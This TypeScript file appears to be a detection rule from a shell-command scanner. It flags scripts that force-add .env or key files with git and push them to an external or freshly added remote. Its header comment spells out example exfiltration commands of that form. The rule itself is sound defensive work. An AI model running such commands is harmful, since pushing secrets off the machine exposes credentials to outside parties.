// A secrets file committed and pushed to a destination the repository was not set up with:
// `git add -f .env && git commit -m x && git push https://host/r.git HEAD`, or to a remote the same
// line added (`git remote add backup URL … git push backup`). The commit carries the file off the
// machine as surely as an upload; `-f` (or a forced `git add -f .`) is how a file .gitignore keeps
// out gets in. Script-wide: the add, the commit and the push are separate commands.
import type { Script, SimpleCommand } from '../shell/types.js';
import type { RuleContext } from './context.js';
import { credentialRisk } from './credential-paths.js';
import { hasLong, hasShort, positionals } from './facts.js';
import { externalHost, gitArgs, remoteAddedOnLine } from './git.js';

const OWN_REMOTES = new Set(['origin', 'upstream']);
const ADD_VALUE_OPTIONS: ReadonlySet<string> = new Set(['--chmod', '--pathspec-from-file']);
const PUSH_VALUE_OPTIONS: ReadonlySet<string> = new Set(['-o', '--push-option', '--repo', '--receive-pack', '--exec']);

/** The secret a `git add` stages: a credential file it names, or every ignored file when forced over the tree. */
function stagedSecret(args: readonly string[]): string | undefined {
  const forced = hasShort(args, 'f') || hasLong(args, '--force');
  const paths = positionals(args, ADD_VALUE_OPTIONS);
  for (const p of paths) {
    const risk = credentialRisk(p);
    if (risk && (forced || risk.kind === 'env_file' || risk.kind === 'key_file' || risk.severity === 'critical')) return `${p} (${risk.label})`;
  }
  if (forced && (paths.some((p) => p === '.' || p === ':/' || p === '*') || hasShort(args, 'A') || hasLong(args, '--all'))) return 'every file .gitignore keeps out (where .env files and keys are kept)';
  return undefined;
}

export function inspectSecretCommitPush(script: Script, ctx: RuleContext): void {
  let staged: string | undefined;
  for (const c of script.commands) {
    if (c.name !== 'git') continue;
    const a = gitArgs(c);
    if (a[0] === 'add') staged ??= stagedSecret(a.slice(1));
    else if (staged && a[0] === 'push') {
      const remote = positionals(a.slice(1), PUSH_VALUE_OPTIONS)[0];
      if (remote === undefined || OWN_REMOTES.has(remote)) {
        // The repository's own remote: not a stranger's host, but the secret is now in the history
        // everyone with access to the repository reads, and stays there after the file is deleted.
        ctx.emit({ patternName: 'exfiltration.secret_commit_own_remote', severity: 'medium', category: 'exfiltration', layer: 'builtin', reason: `Commits ${staged} and pushes it to ${remote ?? 'the upstream remote'}: the secret enters the repository's shared history, readable by everyone with access and kept after the file is removed.` });
        return;
      }
      const direct = externalHost(remote);
      const added = direct ? undefined : remoteAddedOnLine(script, c as SimpleCommand, remote);
      const host = direct ?? (added !== undefined ? externalHost(added) : undefined);
      if (host) {
        ctx.emit({ patternName: 'exfiltration.secret_commit_push', severity: 'high', category: 'exfiltration', layer: 'builtin', reason: `Commits ${staged} and pushes it to ${host}, ${direct ? 'a destination written in the command' : `the remote ${remote} added in the same command`}: the secrets leave with the commit.`, hosts: [host] });
        return;
      }
    }
  }
}
